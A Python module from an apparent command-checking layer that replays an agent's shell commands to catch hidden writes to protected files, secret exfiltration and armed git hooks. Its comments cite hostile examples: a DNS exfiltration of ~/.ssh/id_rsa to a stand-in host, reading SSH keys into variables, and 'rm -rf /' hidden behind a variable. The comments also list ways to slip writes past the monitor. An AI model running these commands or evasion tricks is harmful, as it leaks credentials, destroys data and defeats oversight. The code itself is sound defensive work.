"""What the checks look at: parsed commands plus the shell state around each.

A command string is sequential: ``cd ~/.hermes && echo x > SOUL.md`` writes
SOUL.md, ``D=~/.hermes; echo x > $D/SOUL.md`` too, and ``ln -s SOUL.md x;
echo x > x`` writes through a link that does not exist on disk yet. The scene
replays ``cd``/``pushd``, bare assignments/``export`` and ``ln -s`` in order.
Relative paths are resolved against *every* directory the string may have
changed into so far: a ``cd`` inside ``bash -c`` or a failed ``cd`` cannot
hide a write (over-approximation, in the blocking direction).
"""

from __future__ import annotations

import os
import posixpath
import re
import shlex
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from fnmatch import fnmatchcase
from typing import Any

from evaluation.verdicts.tier1.buildfiles import named_modules
from evaluation.verdicts.tier1.buildtools import build_runs, hook_runner, imported_modules, matches, runnable_text
from evaluation.verdicts.tier1.codepaths import home_joined, is_python, joined_literals, python_strings
from evaluation.verdicts.tier1.computed import as_names, has_substitution, names_only, substitutions
from evaluation.verdicts.tier1.feed import fed_commands, reads_operands_from_stdin
from evaluation.verdicts.tier1.git_exec import git_effects
from evaluation.verdicts.tier1.indirect import (
    awk_commands,
    code_commands,
    crontab_opaque,
    executed_file,
    interpreter_commands,
    static_text,
    stdin_reader,
)
from evaluation.verdicts.tier1.paths import brace_alternatives, canonicalise, expand, is_within, resolve
from evaluation.verdicts.tier1.rules import Ruleset
from evaluation.verdicts.tier1.runners import remote_code
from evaluation.verdicts.tier1.shell import (
    MAX_WORDS,
    SHELLS,
    ShellSyntaxError,
    SimpleCommand,
    parse_commands,
    printf_output,
)
from evaluation.verdicts.tier1.writes import (
    WriteTarget,
    inline_code,
    lookup,
    string_literals,
    symlink_created,
    write_targets,
)

MAX_VIEWS = 1_000
"""Commands Tier 1 looks at in one call, the ones it derives from code included; past it the call fails closed."""
MAX_PATH_CHARS = 4_096
"""Longest path Tier 1 resolves (Linux ``PATH_MAX``); a longer one is unknowable, as an unset variable is."""


@dataclass(frozen=True)
class RuleMatch:
    """One rule that fired, with the sentence a human reads and the exact evidence."""

    rule_id: str
    kind: str
    verdict: str
    block: bool
    severity: str
    reason: str
    evidence: str


@dataclass
class View:
    """A simple command with the shell state in force when it runs.

    ``cwds`` holds every directory it may run in; ``""`` among them means "unknown"
    (a ``cd`` Tier 1 could not resolve), which makes relative paths unresolvable.
    ``opaque`` lists why its effect cannot be read statically (blocked, issue 11).
    """

    command: SimpleCommand
    cwds: tuple[str, ...]
    variables: dict[str, str]
    links: dict[str, str]
    writes: list[WriteTarget]
    text: str = ""
    opaque: list[str] = field(default_factory=list)
    alt_variables: dict[str, str] | None = None  # with the command's own `HOME=… cmd` prefix
    code: str | None = None  # interpreter code it runs, for the unmodelled-write check
    vectors: list[str] = field(default_factory=list)  # what it arms for later calls (exec_vector)
    git_dirs: list[tuple[str, str]] = field(default_factory=list)  # git repository/work tree given
    git_sub: str = ""
    names_only: bool = False  # every substitution in its words prints one file name (tier1.computed)
    judged: list[str] = field(default_factory=list)  # armed files whose whole content this call judged (_armed)


@dataclass
class Scene:
    """Everything a check needs, canonicalised once per evaluation."""

    home: str | None
    hermes_home: str | None
    workspace: str | None
    roots: tuple[str, ...]
    views: list[View] = field(default_factory=list)
    command_text: str | None = None
    sql_texts: list[tuple[str, str]] = field(default_factory=list)
    backups: dict[str, float] = field(default_factory=dict)
    backup_max_age_s: int | None = None
    now: float | None = None
    containers: tuple[str, ...] = ()
    broad_workspace: bool = False
    ruleset: Ruleset | None = None
    counter: list[int] = field(default_factory=lambda: [1_000_000])
    memo: dict[tuple[int, str], list[str] | None] = field(default_factory=dict)  # clear when views change
    marked: dict[str, str] = field(default_factory=dict)  # marker_text per code: asked up to three times each
    overflow: bool = False  # more than MAX_VIEWS commands: the rest is not read (and the call is blocked)
    view_limit: int = MAX_VIEWS  # len(views) at which build_views stops adding (its start + MAX_VIEWS)
    relative: bool = False  # a path was resolved against the working directory (its value may matter)
    governed_dirs: tuple[str, ...] = ()  # the profile's governed directory roots: runtime names inside are free
    secrets: tuple[str, ...] = ()  # canonical secret files the exfiltration rule follows (with the rule's own)
    expanded: set[str] = field(default_factory=set)  # files a build tool runs, already read in this call
    tainted: set[str] = field(default_factory=set)  # files written from a secret, this call or earlier ones
    pending_taint: list[tuple[tuple[str, ...], tuple[Any, ...], Any]] = field(default_factory=list)  # see taint_later
    tainted_vars: set[str] = field(default_factory=set)  # variables assigned from a secret read

    def marker_text(self, code: str) -> str:
        """``code`` with the host's own directories (home, profile, workspace, protected roots) taken out.

        Write, exec and delete markers are looked for in what the agent wrote, not in the names
        the host gave its directories: reading ``/home/qxu/.hermes/SOUL.md`` or a file under
        ``…/popen-gw0/`` is not a ``qx`` or ``popen`` call. Only whole paths go; whatever
        follows one (a file the agent named ``popen``) still counts.
        """
        if code not in self.marked:
            text = code
            hosts = {p.rstrip("/") for p in (self.home, self.hermes_home, self.workspace, *self.roots) if p}
            for path in sorted((p for p in hosts if len(p) > 1), key=len, reverse=True):
                text = text.replace(path, "\u2302")
            self.marked[code] = text
        return self.marked[code]

    def code_text(self, code: str, program: str) -> str:
        """``code`` with what it builds from literals added (joined concatenations; for Python the values
        of every literal-built expression, :mod:`~evaluation.verdicts.tier1.codepaths`; issue 25)."""
        key = "\0" + program + "\0" + code
        if key not in self.marked:
            built = python_strings(code, self.home, self.hermes_home) if is_python(program) else ()
            self.marked[key] = "\n".join((code, joined_literals(code), *built, *home_joined(code)))
        return self.marked[key]

    def code_paths(self, view: View, code: str) -> list[str]:
        """Canonical paths the code names as absolute or home-relative strings, built ones included."""
        text = self.code_text(code, view.command.program)
        words = {w for w in (*string_literals(text), *text.split("\n")) if w.startswith(("/", "~/"))
                 and len(w) < MAX_PATH_CHARS and "\n" not in w}
        found: list[str] = []
        for word in sorted(words):
            path = canonicalise(word, cwd=None, home=self.home, hermes_home=self.hermes_home)
            if path and path not in found:
                found.append(path)
        return found

    def canon(self, view: View, raw: str) -> list[str] | None:
        """Canonical candidates for ``raw`` (per cwd, brace alternative and ``HOME``); None if unknowable."""
        key = (id(view), raw)
        if key not in self.memo:
            self.memo[key] = self._canon(view, raw)
        return self.memo[key]

    def _canon(self, view: View, raw: str) -> list[str] | None:
        if len(raw) > MAX_PATH_CHARS:
            return None  # no system call opens it as one path; unknowable rather than scanned 64-fold
        if not raw.startswith(("/", "~")) or "PWD" in raw or raw.startswith("/proc/"):
            self.relative = True
        if view.names_only and has_substitution(raw):
            raw = as_names(raw)  # `logs/$(date +%F).log` → `logs/*.log`: one name, any name
        out: list[str] = []
        variable_sets = (view.variables,) if view.alt_variables is None else (view.variables, view.alt_variables)
        alternatives = brace_alternatives(raw) if "{" in raw else (raw,)
        for word in alternatives:
            for variables in variable_sets:
                for cwd in view.cwds or (None,):  # type: ignore[arg-type]
                    path = canonicalise(word, cwd=cwd, home=self.home, hermes_home=self.hermes_home,
                                        variables=variables, links=view.links)
                    if path is None:
                        if word == "" and len(alternatives) > 1:
                            continue  # `{/,}`: the empty alternative is no path
                        return None
                    if path not in out:
                        out.append(path)
        return out


def command_text(command: SimpleCommand) -> str:
    """A readable rendering of one simple command for reasons and evidence."""
    parts = [*command.wrappers, *command.argv]
    parts += [f"{r.op}{r.target}" for r in command.redirects if r.heredoc_body is None]
    return " ".join(parts)


@dataclass
class _State:
    cwds: list[str]
    variables: dict[str, str]
    links: dict[str, str]
    written: dict[str, str | None]  # canonical path -> literal content written earlier (None: unknown)
    trees: dict[str, str] = field(default_factory=dict)  # directory -> how a tree from outside came in


SessionState = _State
"""The shell state one call leaves to the next (files written with their content, links, variables)."""
MAX_DERIVED_DEPTH = 4
MAX_CWDS = 16
"""Directories a command string may have changed into that Tier 1 follows (``cd a; cd b; …``)."""


def build_views(scene: Scene, commands: tuple[SimpleCommand, ...], ruleset: Ruleset,
                cwd: str | None, state: SessionState | None = None) -> SessionState:
    """Replay ``commands`` in order, filling ``scene.views`` with state snapshots.

    ``state``: what earlier calls of the session left behind (files written, links,
    variables; see :mod:`evaluation.verdicts.tier1.history`); the call starts in ``cwd``."""
    if state is None:
        state = _State(cwds=[], variables={}, links={}, written={})
    # each call reads its own budget of words (shell.MAX_WORDS) and of commands
    scene.counter[1:] = [MAX_WORDS]
    scene.overflow, scene.view_limit = False, len(scene.views) + MAX_VIEWS
    scene.expanded = set()
    state.cwds = [cwd] if cwd else []
    for command in commands:
        _add(scene, command, ruleset, state, 0)
    return state


def _add(scene: Scene, command: SimpleCommand, ruleset: Ruleset, state: _State, depth: int) -> None:
    if len(scene.views) >= scene.view_limit:  # issue 25: the checks' work grows with the commands; bound it
        if not scene.overflow and scene.views:
            scene.overflow = True
            scene.views[-1].opaque.append(f"more than {MAX_VIEWS} commands (counting those run by code and "
                                          "substitutions); Tier 1 does not read the rest")
        return
    if reads_operands_from_stdin(command):  # `… | xargs cp {} ~/.hermes/`: put the fed operands in (issue 25)
        upstream = next((v.command for v in reversed(scene.views) if v.command.pipeline_id == command.pipeline_id
                         and v.command.pipeline_pos == command.pipeline_pos - 1
                         and v.command.depth == command.depth), None) if command.pipeline_pos > 0 else None
        for inner in fed_commands(command, upstream):
            _add(scene, inner, ruleset, state, depth)
        return
    if command.opaque and command.argv and "$" in command.argv[0] and depth < MAX_DERIVED_DEPTH:
        resolved = _resolve_program(scene, command, state)
        if resolved is not None:
            for inner in resolved:
                _add(scene, inner, ruleset, state, depth + 1)
            return
    view = View(command=command, cwds=tuple(state.cwds), variables=dict(state.variables),
                links=dict(state.links),
                writes=write_targets(command, ruleset.writers, ruleset.inline_interpreters, scene.marker_text),
                text=command_text(command), opaque=list(command.opaque))
    if substitutions(command):
        view.names_only = names_only(scene.views, command)
    if command.assignments and command.argv:
        view.alt_variables = {**state.variables, **{name: value for name, value in (
            (n, expand(v, cwd=None, home=scene.home, hermes_home=scene.hermes_home, variables=state.variables))
            for n, v in command.assignments) if value is not None}}
    scene.views.append(view)
    if depth < MAX_DERIVED_DEPTH:
        for inner in _derived(scene, view, ruleset, state):
            _add(scene, inner, ruleset, state, depth + 1)
    elif _could_derive(command):
        view.opaque.append("code nested deeper than Tier 1 follows")
    _record_written(scene, view, state)
    if view.writes and depth < MAX_DERIVED_DEPTH:
        for inner in armed_commands(scene, view, ruleset, state):
            _add(scene, inner, ruleset, state, depth + 1)
    if (view.writes and command.program not in _NOT_CARRYING) or (command.assignments and not command.argv) or (
            command.program in _LINE_READERS and command.pipeline_pos > 0):
        _record_taint(scene, view, ruleset)
    _replay_state(scene, view, ruleset, state)


def _could_derive(command: SimpleCommand) -> bool:
    return command.pipeline_pos > 0 or bool(command.redirects) or command.context == "interpreter"


def _resolve_program(scene: Scene, command: SimpleCommand, state: _State) -> list[SimpleCommand] | None:
    """``R=rm; $R -rf /`` → ``rm -rf /`` when the variable is known in this string."""
    name = expand(command.argv[0], cwd=None, home=scene.home, hermes_home=scene.hermes_home,
                  variables=state.variables)
    if name is None or not name.strip() or "$" in name:
        return None
    try:
        ifs = state.variables.get("IFS")
        words = re.split("[" + re.escape(ifs) + "]+", name) if ifs else name.split()
        parsed = parse_commands(shlex.join([*(w for w in words if w), *command.argv[1:]]), depth=command.depth,
                                context=command.context, counter=scene.counter)
    except ShellSyntaxError:
        return None
    if not parsed:
        return None
    reasons = tuple(r for r in command.opaque if "program name" not in r)
    last = replace(parsed[-1], redirects=command.redirects, assignments=command.assignments,
                   pipeline_id=command.pipeline_id, pipeline_pos=command.pipeline_pos,
                   pipeline_len=command.pipeline_len, opaque=parsed[-1].opaque + reasons)
    return [*parsed[:-1], last]


def _derived(scene: Scene, view: View, ruleset: Ruleset, state: _State) -> list[SimpleCommand]:
    """Commands run indirectly by ``view``: piped or written code, interpreter code."""
    command, interpreters = view.command, ruleset.inline_interpreters
    out: list[SimpleCommand] = []
    if command.context == "interpreter" and command.program in SHELLS and stdin_reader(command, interpreters):
        view.opaque.append(f"interpreter code starts a shell ({command.program}) reading commands at run time")
    how = stdin_reader(command, interpreters) if command.pipeline_pos > 0 else None
    if how is not None:
        upstream = [v for v in scene.views if v.command.pipeline_id == command.pipeline_id
                    and v.command.pipeline_pos < command.pipeline_pos and v.command.depth == command.depth]
        texts = [static_text(v.command) for v in upstream]
        if upstream and all(t is not None for t in texts):
            found, reasons = code_commands("\n".join(t for t in texts if t is not None), how, interpreters,
                                           scene.counter)
            out += found
            view.opaque += reasons
        else:
            source = next((v.text for v in upstream if static_text(v.command) is None), "its input")
            view.opaque.append(f"{command.program} runs code piped from {source!r}")
    executed = executed_file(command, interpreters)
    if executed is not None:
        for path in _run_candidates(scene, view, executed[0], state):
            if path in state.written:
                content = state.written[path]
                if content is None:
                    view.opaque.append(f"runs {executed[0]!r}, written earlier in this command or session with "
                                       "content Tier 1 cannot read")
                else:
                    found, reasons = code_commands(content, executed[1], interpreters, scene.counter)
                    out += found
                    view.opaque += reasons
    if state.written:
        out += _build_derived(scene, view, ruleset, state)
    interpreter = lookup(interpreters, command.program) if command.program else None
    if interpreter is not None:
        view.code = inline_code(command, interpreter["flags"])
        rule = next(iter(ruleset.of_kind("unmodelled_write")), None)
        if view.code and rule is not None:
            found, reasons = interpreter_commands(command, view.code, rule.params, scene.counter,
                                                  scene.marker_text)
            out += found
            view.opaque += reasons
    found, reasons = awk_commands(command, scene.counter)
    out += found
    view.opaque += reasons + crontab_opaque(command)
    fetched = remote_code(command)
    if fetched is not None:
        view.opaque.append(fetched)
    vector = next(iter(ruleset.of_kind("exec_vector")), None)
    if command.program == "git" and vector is not None:
        out += _git_derived(scene, view, vector.params)
    return out


MAX_BUILD_FILES = 32


def _build_derived(scene: Scene, view: View, ruleset: Ruleset, state: _State) -> list[SimpleCommand]:
    """What a build tool runs from files this session wrote (``conftest.py`` then ``pytest``; issue 25)."""
    command = view.command
    runs = build_runs(command, ruleset.build_tools, ruleset.inline_interpreters)
    if not runs:
        return []
    interpreter = lookup(ruleset.inline_interpreters, command.program)
    code = inline_code(command, interpreter["flags"]) if interpreter is not None else None
    modules = imported_modules(code) if code else frozenset()
    out: list[SimpleCommand] = []
    seen: set[str] = set()
    for directory, glob, how in runs:  # grows: configuration may name modules the tool imports
        bases = scene.canon(view, directory)
        tree = next((t for t in state.trees for b in bases or () if is_within(b, t)
                     or (glob.startswith("**/") and is_within(t, b))), None) if state.trees else None
        if tree is not None and tree not in seen:
            seen.add(tree)
            view.opaque.append(f"{command.program} runs files of {tree}, a tree brought in from outside "
                               f"({state.trees[tree]}) whose content Tier 1 never saw")
        for path, content in list(state.written.items())[-MAX_BUILD_FILES:]:
            hit = (any(matches(path, base, glob, modules) for base in bases) if bases is not None
                   else matches(path, posixpath.dirname(path), glob.removeprefix("**/"), modules))
            if not hit or path in seen or path in scene.expanded:
                continue  # a file is read once per call: json.py run by Python imports json.py …
            seen.add(path)
            scene.expanded.add(path)
            if len(runs) < 4 * MAX_BUILD_FILES:
                runs += [(posixpath.dirname(path), f"{m}{suffix}", "python") for m in named_modules(content, how)
                         for suffix in (".py", "/__init__.py")]
            runnable = runnable_text(content, how) if content is not None else None
            if runnable is None:
                what = "content Tier 1 did not see" if content is None else "code Tier 1 cannot read"
                view.opaque.append(f"{command.program} runs {path}, written earlier in this command or session "
                                   f"with {what}")
                continue
            found, reasons = code_commands(runnable[0], runnable[1], ruleset.inline_interpreters, scene.counter)
            out += found
            view.opaque += reasons
    return out


def _git_derived(scene: Scene, view: View, params: Mapping[str, Any]) -> list[SimpleCommand]:
    """Programs git runs for this invocation (``-c core.pager=…``, ``rebase --exec`` …), see git_exec."""
    effects = git_effects(view.command, view.variables, params)
    view.vectors += effects.vectors
    view.opaque += effects.opaque
    view.git_dirs, view.git_sub = effects.git_dirs, effects.sub
    out: list[SimpleCommand] = []
    for script in effects.scripts:
        try:
            out += parse_commands(script, depth=view.command.depth + 1, context="shell_c", counter=scene.counter)
        except ShellSyntaxError as exc:
            view.opaque.append(f"cannot read the command git runs ({exc})")
    return out


def _run_candidates(scene: Scene, view: View, raw: str, state: _State) -> list[str]:
    """Files a command may run: ``raw`` resolved; when it cannot be named statically
    (``find … -exec bash {}``, ``bash $f``, ``sh *.sh``) every file written earlier that
    it may be (issue 11: a script written in one call, run under another name later)."""
    paths = scene.canon(view, raw)
    if paths is not None and raw != "{}" and not any(c in p for p in paths for c in "*?["):
        return paths
    patterns = [posixpath.basename(p) for p in paths or ()] if raw != "{}" else []
    return [p for p in state.written if not patterns or any(fnmatchcase(posixpath.basename(p), b)
                                                            for b in patterns)][:16]


_NOT_CARRYING = frozenset({"rm", "rmdir", "unlink", "shred", "chmod", "chown", "chgrp", "chattr", "setfacl", "touch",
                           "mkdir", "truncate", "mkfifo", "mknod"})
"""Writers whose targets never receive another file's content (no secret flows through them)."""


_LINE_READERS = frozenset({"read", "readarray", "mapfile"})
"""Builtins that put what is piped into them into variables."""


def _record_taint(scene: Scene, view: View, ruleset: Ruleset) -> None:
    """Files written from a secret, and variables assigned from one, carry it (secret_exfiltration)."""
    rule = next(iter(ruleset.of_kind("secret_exfiltration")), None)
    if rule is None:
        return
    from evaluation.verdicts.tier1.checks_exfiltration import (  # local: import cycle
        reads_secret,
        secret_files,
        taint_later,
        writes_secret,
    )

    command = view.command
    carries = writes_secret(rule, scene, view, secret_files(rule, scene)) if view.writes else False
    if carries:
        paths = [p for t in view.writes for p in scene.canon(view, t.raw) or ()]
        if isinstance(carries, tuple):
            taint_later(rule, scene, paths, carries)
        else:
            scene.tainted.update(paths)
    if command.program in _LINE_READERS and command.pipeline_pos > 0 and any(
            reads_secret(rule, scene, v, secret_files(rule, scene)) for v in scene.views
            if v.command.pipeline_id == command.pipeline_id and v.command.pipeline_pos < command.pipeline_pos):
        # `xxd -p ~/.ssh/id_rsa | while read l; do dig $l.e.io; done`: the variables read hold the secret
        scene.tainted_vars.update(a for a in command.argv[1:] if not a.startswith("-") and a.isidentifier())
    if command.assignments and not command.argv and any("…" in v for _, v in command.assignments):
        # `K=$(cat ~/.ssh/id_rsa)`: the substitution's commands were added just before this one
        recent = [v for v in scene.views[-8:] if v.command.context == "substitution" and v is not view]
        if any(reads_secret(rule, scene, v, secret_files(rule, scene)) for v in recent):
            scene.tainted_vars.update(name for name, _ in command.assignments)


_REPO_HOOK = re.compile(r"(?:^|/)\.git/(?:modules/[^/]+/)?hooks/[^/]+$")
"""A repository's own hook: git runs it on commit, checkout, push … (``exec_vector`` blocks writing one
whose content Tier 1 does not know)."""


def armed_commands(scene: Scene, view: View, ruleset: Ruleset, state: _State) -> list[SimpleCommand]:
    """A repository hook whose whole content Tier 1 knows (written in this call or an earlier one of the
    session, then made executable …) is judged NOW by that content: its commands join this call, and the
    path goes to ``view.judged`` so ``exec_vector`` lets the write be (issue 25, round 5: a ``ruff check``
    pre-commit hook is no attack; ``rm -rf ~`` in one is blocked as ``rm -rf ~``). A hook whose content was
    never seen, or that Tier 1 cannot read, stays an exec vector."""
    out: list[SimpleCommand] = []
    for target in view.writes:
        for path in scene.canon(view, target.raw) or ():
            if path in view.judged or not _REPO_HOOK.search(path):
                continue
            content = state.written.get(path)
            runner = hook_runner(content, ruleset.inline_interpreters) if isinstance(content, str) else None
            if content is None or runner is None:
                continue
            found, reasons = code_commands(content, runner, ruleset.inline_interpreters, scene.counter)
            if not reasons:
                view.judged.append(path)
                out += found
    return out


def judge_written(scene: Scene, view: View, ruleset: Ruleset, content: str) -> None:
    """A write tool's ``view`` writing ``content`` whole: what :func:`armed_commands` finds joins the call."""
    state = _State(cwds=list(view.cwds), variables=dict(view.variables), links=dict(view.links), written={})
    for target in view.writes:
        for path in scene.canon(view, target.raw) or ():
            state.written[path] = content
    for inner in armed_commands(scene, view, ruleset, state):
        _add(scene, inner, ruleset, state, 1)


_KEEPS_CONTENT = frozenset({"chmod", "chown", "chgrp", "chattr", "setfacl", "touch", "utime"})
"""Writers that change a file's mode, owner or times, never its content (``chmod +x x.sh`` after writing it)."""
_REMOVES = frozenset({"rm", "unlink", "shred"})


def _record_written(scene: Scene, view: View, state: _State) -> None:
    """Remember files this command writes, with their literal content when Tier 1 saw it."""
    command = view.command
    if command.program in _KEEPS_CONTENT or command.program in _REMOVES:
        # its content stays what an earlier write made it (known or not); a file never written in the
        # session stays unknown to Tier 1 (absent), so running it is judged as running an unseen file
        for target in view.writes:
            for path in scene.canon(view, target.raw) or ():
                if command.program in _REMOVES:
                    state.written.pop(path, None)
        return
    content: str | None = static_text(replace(command, redirects=()))
    if content is None and command.program in ("cat", "tee"):
        bodies = [r.heredoc_body if r.heredoc_body is not None else r.target for r in command.redirects
                  if r.heredoc_body is not None or r.op.lstrip("0123456789") == "<<<"]
        content = "\n".join(bodies) if bodies else None
    for target in view.writes:
        for path in scene.canon(view, target.raw) or ():
            if target.imports and len(state.trees) < MAX_BUILD_FILES:
                state.trees[path] = target.via  # `git clone …`, `tar -x`: files Tier 1 never saw (issue 25)
            previous = state.written.get(path, "") if target.via == "redirect >>" else ""
            state.written[path] = None if content is None or previous is None else previous + content


def _replay_state(scene: Scene, view: View, ruleset: Ruleset, state: _State) -> None:
    command, program = view.command, view.command.program
    if not command.argv or program == "export":
        pairs = command.assignments if not command.argv else tuple(
            tuple(a.split("=", 1)) for a in command.argv[1:] if "=" in a)
        for name, value in pairs:
            value = as_names(value) if view.names_only and has_substitution(value) else value
            expanded = expand(value, cwd=state.cwds[0] if state.cwds else None, home=scene.home,
                              hermes_home=scene.hermes_home, variables=state.variables)
            if expanded is None:
                state.variables.pop(name, None)
            else:
                state.variables[name] = expanded
    elif program == "printf" and len(command.argv) >= 4 and command.argv[1] == "-v":
        # `printf -v out 'build/%s.log' "$(date +%s)"`: the variable holds what printf would print
        formatted = [as_names(w) if view.names_only and has_substitution(w) else w for w in command.argv[3:]]
        text = None if any(has_substitution(w) for w in formatted) else printf_output(formatted[0], formatted[1:])
        expanded = None if text is None else expand(text, cwd=state.cwds[0] if state.cwds else None,
                                                     home=scene.home, hermes_home=scene.hermes_home,
                                                     variables=state.variables)
        if expanded is None:
            state.variables.pop(command.argv[2], None)
        else:
            state.variables[command.argv[2]] = expanded
    elif program == "for" and len(command.argv) > 3 and command.argv[2] == "in":
        # `for f in a b*.txt` binds f to each word: kept as a brace list so paths expand to all of them
        words = command.argv[3:]
        if command.dynamic or any("{" in w or "," in w for w in words):
            state.variables.pop(command.argv[1], None)
        else:
            state.variables[command.argv[1]] = words[0] if len(words) == 1 else "{" + ",".join(words) + "}"
    elif program in ("cd", "pushd", "popd"):
        operands = [a for a in command.argv[1:] if not a.startswith("-") or a == "-"]
        operand = "" if program == "popd" else operands[0] if operands else "~"
        operand = "$OLDPWD" if operand == "-" else operand
        targets = scene.canon(view, operand) if operand else None
        if len(state.cwds) == 1 and state.cwds[0]:
            state.variables["OLDPWD"] = state.cwds[0]
        else:  # several possible directories: $OLDPWD is not one known path
            state.variables.pop("OLDPWD", None)
        for target in targets if targets is not None else [""]:  # "" = a directory Tier 1 cannot know
            if target not in state.cwds:
                # past MAX_CWDS directories the next one is unknown: relative paths no longer resolve
                # (blocked where they matter) and the work per path stays bounded (issue 25)
                state.cwds.append(target if len(state.cwds) < MAX_CWDS else "")
                if len(state.cwds) > MAX_CWDS:
                    break
    link = symlink_created(command, ruleset.writers)
    if link is not None:
        _record_link(scene, view, link, state.links)


def _record_link(scene: Scene, view: View, link: tuple[str, str], links: dict[str, str]) -> None:
    target_raw, name_raw = link
    for name in scene.canon(view, name_raw) or ():
        if os.path.isdir(name):  # `ln -s t existing_dir` creates existing_dir/basename(t)
            name = posixpath.join(name, target_raw.rstrip("/").rsplit("/", 1)[-1])
        target = expand(target_raw, cwd=None, home=scene.home, hermes_home=scene.hermes_home,
                        variables=view.variables)
        if target is None:
            continue
        if not target.startswith("/"):
            target = posixpath.join(posixpath.dirname(name), target)
        links[name] = resolve(target, links)


def canonical_backups(backups: Mapping[str, float] | None, *, home: str | None,
                      hermes_home: str | None) -> dict[str, float]:
    """Backup records keyed by canonical path (newest timestamp wins on collisions)."""
    out: dict[str, float] = {}
    for raw, stamp in (backups or {}).items():
        path = canonicalise(raw, cwd="/", home=home, hermes_home=hermes_home)
        if path is not None:
            out[path] = max(stamp, out.get(path, stamp))
    return out
